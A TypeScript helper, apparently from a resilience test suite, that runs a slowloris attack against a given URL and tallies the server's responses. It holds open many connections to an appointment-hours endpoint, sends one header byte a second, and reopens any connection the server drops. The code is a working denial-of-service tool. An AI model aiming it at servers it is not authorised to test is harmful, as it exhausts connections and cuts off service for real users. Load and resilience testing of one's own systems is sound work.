import { connect, type Socket } from "node:net";

/**
 * `count` slowloris connections for `seconds`: each opens, sends a request line and then
 * one header byte a second, never finishing its headers; a connection the server closes
 * is opened again. Answers what the server said to them (a status when it answered one, or
 * "closed" for each connection it closed without a word) and never any Retry-After check.
 */
export async function slowConnections(url: string, count: number, seconds: number) {
  const { hostname, port } = new URL(url);
  const statuses: Record<string, number> = {};
  const sockets = new Set<Socket>();
  const ends = Date.now() + seconds * 1000;
  const open = () => {
    if (Date.now() >= ends) return;
    const socket = connect(Number(port), hostname);
    sockets.add(socket);
    let answered = false;
    socket.setNoDelay(true);
    socket.on("connect", () => socket.write("POST /api/Appointment/availableHours/month HTTP/1.1\r\nHost: flood\r\n"));
    socket.on("data", (data) => {
      if (answered) return;
      answered = true;
      const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString())?.[1] ?? "other";
      statuses[status] = (statuses[status] ?? 0) + 1;
    });
    socket.on("error", () => undefined);
    socket.on("close", () => {
      sockets.delete(socket);
      if (!answered) statuses.closed = (statuses.closed ?? 0) + 1;
      open();
    });
  };
  for (let i = 0; i < count; i++) open();
  const dripping = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write("X");
  }, 1000);
  await new Promise((resolve) => setTimeout(resolve, seconds * 1000));
  clearInterval(dripping);
  for (const socket of sockets) socket.destroy();
  return { statuses, withoutRetryAfter: 0 };
}
